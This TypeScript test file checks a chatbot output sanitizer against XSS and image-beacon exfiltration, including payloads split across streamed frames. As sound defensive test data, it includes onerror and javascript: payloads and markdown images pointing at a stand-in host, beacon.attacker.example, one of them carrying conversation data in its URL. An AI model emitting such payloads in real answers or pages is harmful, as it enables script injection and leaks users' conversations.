/**
 * The output sanitizer (functions/fulfillment/output-safety.ts): each attack class is rendered
 * the way stock Lex Web UI 0.24.1 renders the final answer (tests/lex-web-ui/render.ts, `marked`
 * 4 into innerHTML; docs/reliability-and-security.md, "Output safety") and parsed as a browser parses innerHTML;
 * a property test cuts payloads at every point and checks that the frames joined equal the
 * whole text sanitized, and that no prefix a client may render is live.
 */
import { expect } from "chai";
import fc from "fast-check";
import {
  DEFAULT_OUTPUT_POLICY,
  MAX_HELD,
  OutputSanitizer,
  parseImageHosts,
  parseLinkSchemes,
  sanitizeOutput,
  type OutputPolicy,
} from "../../functions/fulfillment/output-safety";
import { ATTACKS } from "../lex-web-ui/attacks";
import { liveMarkup } from "../lex-web-ui/live-markup";
import { lexWebUiHtml } from "../lex-web-ui/render";


/** Live markup in Lex Web UI's rendering; its own linkifier makes `tel:` links, which run nothing. */
function render(text: string, policy: OutputPolicy = DEFAULT_OUTPUT_POLICY): string[] {
  return liveMarkup(lexWebUiHtml(text), { linkSchemes: [...policy.linkSchemes, "tel"], imageHosts: policy.imageHosts });
}

function streamed(pieces: readonly string[], policy?: OutputPolicy): string[] {
  const sanitizer = new OutputSanitizer(policy);
  return [...pieces.map((piece) => sanitizer.push(piece)), sanitizer.flush()];
}

describe("output safety", function () {
  describe("the renderer the tests trust (so a pass means something)", function () {
    for (const [name, payload] of Object.entries(ATTACKS)) {
      if (name === "referenceImage" || name === "controlHidden" || name === "escapedBackslash" || name === "autolink" || name === "comment" || name === "entities") continue;
      it(`finds ${name} live when it is not sanitized`, function () {
        expect(render(payload)).to.not.deep.equal([]);
      });
    }
  });

  describe("every attack class, rendered as Lex Web UI renders the final answer", function () {
    for (const [name, payload] of Object.entries(ATTACKS)) {
      it(`${name}: nothing live`, function () {
        const safe = sanitizeOutput(payload);
        expect(render(safe), safe).to.deep.equal([]);
        expect(lexWebUiHtml(safe)).to.not.match(/beacon\.attacker\.example\/[pr]\.png"?\s*(alt|>)/);
      });
    }

    it("entities stay text: a client that decodes the text once more still sees no tag", function () {
      const safe = sanitizeOutput(ATTACKS.entities);
      const html = lexWebUiHtml(safe);
      // What a careless client does: takes the rendered text and uses it as HTML again.
      const onceDecoded = html.replace(/&amp;/g, "&");
      expect(liveMarkup(onceDecoded)).to.deep.equal([]);
      expect(html).to.include("&amp;lt;img");
    });

    it("an image's alt text cannot join its neighbours into live markup", function () {
      const joins = {
        "] + alt + (": "[click]![](x)(javascript:document.title='XSS-FIRED')",
        "alt + tag rest": "![<](x)img src=x onerror=document.title='XSS-FIRED'>",
        "! + alt [": "!![](x)[a](https://beacon.attacker.example/p.png)",
        "& + alt name": "&![lt](x)img src=x onerror=document.title='XSS-FIRED'&![gt](x)",
        "URL + alt quote": `https:/![/"onmouseover="document.title='XSS-FIRED'](x)`,
      };
      for (const [name, payload] of Object.entries(joins)) {
        const safe = sanitizeOutput(payload);
        expect(render(safe), `${name}: ${safe}`).to.deep.equal([]);
        expect(lexWebUiHtml(safe), name).to.not.match(/<img/);
        expect(sanitizeOutput(safe), name).to.equal(safe);
      }
      // The reference an alt text would have completed stays escaped, never decodable into a tag.
      expect(sanitizeOutput(joins["& + alt name"])).to.match(/^\\&lt/);
    });

    it("an image beacon shows its alt text and no image", function () {
      expect(sanitizeOutput(ATTACKS.imageBeacon)).to.equal("logo");
      expect(lexWebUiHtml(sanitizeOutput(ATTACKS.referenceImage))).to.not.include("<img");
    });
  });

  describe("markdown stays markdown", function () {
    it("leaves ordinary markdown unchanged", function () {
      const text = [
        "# Title",
        "Some **bold**, _italic_, `code`, a [link](https://example.com/a?b=1&c=2) and <https://example.com>.",
        "- item 1\n- item 2\n\n1. one\n2. two",
        "> quote",
        "```js\nconst a = b < c && d > e;\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Mail [me](mailto:a@example.com). 5 < 6 & 7 > 3, AT&T. Emoji 🚀 and 日本語.",
      ].join("\n\n");
      const safe = sanitizeOutput(text);
      expect(safe).to.equal(text);
    });

    it("keeps allowed links as links and shows the rest as text", function () {
      const html = lexWebUiHtml(sanitizeOutput("[a](https://example.com) [b](mailto:x@example.com) [c](ssh://example.com) [d](/relative) <https://example.com/x> <ssh://example.com>"));
      expect(html).to.include('href="https://example.com"').and.include('href="mailto:x@example.com"');
      expect(html).to.include("[c](ssh://example.com)").and.include("[d](/relative)").and.include("&lt;ssh://example.com&gt;");
      expect(html).to.include('href="https://example.com/x"');
    });

    it("a `<` that cannot open a tag is left alone", function () {
      expect(sanitizeOutput("a < b, a<3, <= and <>")).to.equal("a < b, a<3, <= and <>");
    });

    it("drops control characters but keeps tab and newlines", function () {
      expect(sanitizeOutput("a\u0007b\u001b[31mc\u009bd\te\r\nf")).to.equal("ab[31mcd\te\r\nf");
    });
  });

  describe("the operator's allowlists", function () {
    it("images from an allowed host are kept; others still show their alt text", function () {
      const policy = { linkSchemes: ["https"], imageHosts: ["images.example.com"] };
      const text = "![ok](https://images.example.com/a.png) ![no](https://other.example/a.png) ![plain](http://images.example.com/a.png)";
      expect(sanitizeOutput(text, policy)).to.equal("![ok](https://images.example.com/a.png) no plain");
      expect(render(sanitizeOutput(text, policy), policy)).to.deep.equal([]);
    });

    it("link schemes are the operator's: with only https, mailto and http links become text", function () {
      const policy = { linkSchemes: ["https"], imageHosts: [] };
      expect(sanitizeOutput("[a](http://x.example) [b](mailto:a@x.example) [c](https://x.example)", policy)).to.equal(
        "[a\\](http://x.example) [b\\](mailto:a@x.example) [c](https://x.example)",
      );
    });

    it("parses the settings and refuses what cannot be allowed, with a clear error", function () {
      expect(parseLinkSchemes(" https, MAILTO:, tel ,https")).to.deep.equal(["https", "mailto", "tel"]);
      expect(() => parseLinkSchemes("https,javascript")).to.throw(/javascript.*cannot be allowed/);
      expect(() => parseLinkSchemes("data")).to.throw(/cannot be allowed/);
      expect(() => parseLinkSchemes("ht tp")).to.throw(/not a URL scheme/);
      expect(parseImageHosts("Images.Example.com, cdn.example.org")).to.deep.equal(["images.example.com", "cdn.example.org"]);
      expect(() => parseImageHosts("https://images.example.com")).to.throw(/not a host name/);
      expect(() => parseImageHosts("*.example.com")).to.throw(/not a host name/);
    });

    it("a forbidden scheme handed to the sanitizer directly is still refused", function () {
      const policy = { linkSchemes: ["javascript", "https"], imageHosts: [] };
      expect(render(sanitizeOutput(ATTACKS.javascriptLink, policy))).to.deep.equal([]);
    });
  });

  describe("streaming across frame cuts", function () {
    it("holds back a `<` at the end of a frame until it knows what follows", function () {
      expect(streamed(["Hello <", "img src=x onerror=alert(1)>"])).to.deep.equal(["Hello ", "\\<img src=x onerror=alert(1)>", ""]);
      expect(streamed(["1 <", " 2"])).to.deep.equal(["1 ", "< 2", ""]);
    });

    it("holds a link destination until its scheme is known", function () {
      expect(streamed(["[x]", "(java", "script:alert(1))"]).join("")).to.equal("[x\\](javascript:alert(1))");
      expect(streamed(["[x]", "(https", "://a.example)"])).to.deep.equal(["[x", "", "](https://a.example)", ""]);
    });

    it("an image split over many frames never reaches a client as an image", function () {
      const pieces = ["![", "logo", "](https://beacon", ".attacker.example/p.png", ")", " after"];
      const frames = streamed(pieces);
      expect(frames.join("")).to.equal("logo after");
      expect(frames.some((frame) => frame.includes("!["))).to.equal(false);
    });

    it("an unclosed `![` is released as text once it is longer than the hold limit", function () {
      const sanitizer = new OutputSanitizer();
      expect(sanitizer.push("![")).to.equal("");
      const released = sanitizer.push("a".repeat(MAX_HELD));
      expect(released.startsWith("\\![a")).to.equal(true);
    });

    it("a trailing construct is released at the end of the answer", function () {
      expect(streamed(["a <", ""])).to.deep.equal(["a ", "", "<"]);
      expect(streamed(["x &lt"])).to.deep.equal(["x ", "\\&lt"]);
    });

    const fragment = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...Object.values(ATTACKS)) },
      { weight: 4, arbitrary: fc.constantFrom("<", ">", "&", "#", ";", "!", "[", "]", "(", ")", ":", "\\", "`", '"', "'", "\n", " ", "\u001b", "\u009b") },
      { weight: 3, arbitrary: fc.constantFrom("img", "script", "lt", "gt", "#60", "https://", "http://", "tel:", "javascript:", "data:", "mailto:", "x.example/", "onerror=alert(1)") },
      { weight: 2, arbitrary: fc.constantFrom("Hello", "world", "日本語", "🚀", "é", "**bold**", "```", "\n\n", "- ", "> ", "![", "](", "]:", "*", "_", "|") },
      { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
    );
    const text = fc.array(fragment, { minLength: 1, maxLength: 30 }).map((parts) => parts.join(""));

    it("property: frames joined equal the whole text sanitized, however it is cut", function () {
      fc.assert(
        fc.property(text, fc.array(fc.nat(), { maxLength: 12 }), (whole, cuts) => {
          const points = [...new Set(cuts.map((c) => c % (whole.length + 1)))].sort((a, b) => a - b);
          const pieces = [0, ...points].map((start, k) => whole.slice(start, [...points, whole.length][k]));
          expect(streamed(pieces).join("")).to.equal(sanitizeOutput(whole));
        }),
        { numRuns: 400 },
      );
    });

    it("property: cut at every single point, no frame prefix and no final answer renders live", function () {
      fc.assert(
        fc.property(text, (whole) => {
          const final = sanitizeOutput(whole);
          expect(render(final), final).to.deep.equal([]);
          for (let cut = 0; cut <= whole.length; cut++) {
            const sanitizer = new OutputSanitizer();
            const first = sanitizer.push(whole.slice(0, cut));
            // What a client shows after the first frame: it must be safe on its own…
            expect(render(first), first).to.deep.equal([]);
            // …and the rest completes it into exactly the whole answer.
            expect(first + sanitizer.push(whole.slice(cut)) + sanitizer.flush()).to.equal(final);
          }
        }),
        { numRuns: 60 },
      );
    });

    it("property: sanitizing twice changes nothing", function () {
      fc.assert(
        fc.property(text, (whole) => {
          const once = sanitizeOutput(whole);
          expect(sanitizeOutput(once)).to.equal(once);
        }),
        { numRuns: 300 },
      );
    });

    it("escapes a reference name that an image's alt text would complete (found by the property above, seed 1978560122)", function () {
      for (const whole of ["&Hello![logo](https://beacon.attacker.example/p.png?conversation=secret);img", "&l![](https://x.example/i.png)t;", "&l![t](https://x.example/i.png);"]) {
        const once = sanitizeOutput(whole);
        expect(once, whole).to.match(/^\\&/);
        expect(sanitizeOutput(once), whole).to.equal(once);
        let streamed = "";
        const sanitizer = new OutputSanitizer(DEFAULT_OUTPUT_POLICY);
        for (const c of whole) streamed += sanitizer.push(c);
        expect(streamed + sanitizer.flush(), whole).to.equal(once);
      }
    });
  });
});
